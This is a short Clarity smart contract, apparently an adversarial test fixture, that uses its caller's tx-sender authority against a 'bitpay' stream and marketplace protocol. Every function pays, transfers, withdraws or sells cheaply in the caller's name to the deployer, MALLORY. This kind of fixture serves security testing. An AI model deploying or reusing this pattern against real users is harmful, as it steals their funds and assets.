;; A contract that does its caller no good: what it does in his name, and what it can only try.

(define-constant MALLORY tx-sender)

;; tx-sender pays for what it opens and offers, and hands over what he holds.
(define-public (open) (contract-call? .bitpay-core create-stream MALLORY u1000000 u1))
(define-public (bid (id uint))
  (contract-call? .bitpay-marketplace make-offer id u1000000 u0 true (+ stacks-block-time u1000000)))
(define-public (take (id uint)) (contract-call? .bitpay-obligation-nft transfer id tx-sender MALLORY))

;; For all else the caller counts, and that is the trap.
(define-public (drain (id uint)) (contract-call? .bitpay-core withdraw-to id none MALLORY))
(define-public (hand-on (id uint)) (contract-call? .bitpay-core withdraw-and-transfer id MALLORY))
(define-public (cancel (id uint)) (contract-call? .bitpay-core cancel-stream id))
(define-public (renounce (id uint)) (contract-call? .bitpay-core renounce-cancel id))
(define-public (top-up (id uint)) (contract-call? .bitpay-core top-up-stream id u1000000))
(define-public (propose (id uint)) (contract-call? .bitpay-core propose-sender id (some MALLORY)))
(define-public (burn (id uint)) (contract-call? .bitpay-core burn-obligation id))
(define-public (offer-cheaply (id uint)) (contract-call? .bitpay-marketplace list-stream id u1000 none))
(define-public (sell-cheaply (id uint)) (contract-call? .bitpay-marketplace update-listing id u1000))
(define-public (accept (id uint)) (contract-call? .bitpay-marketplace accept-offer id))
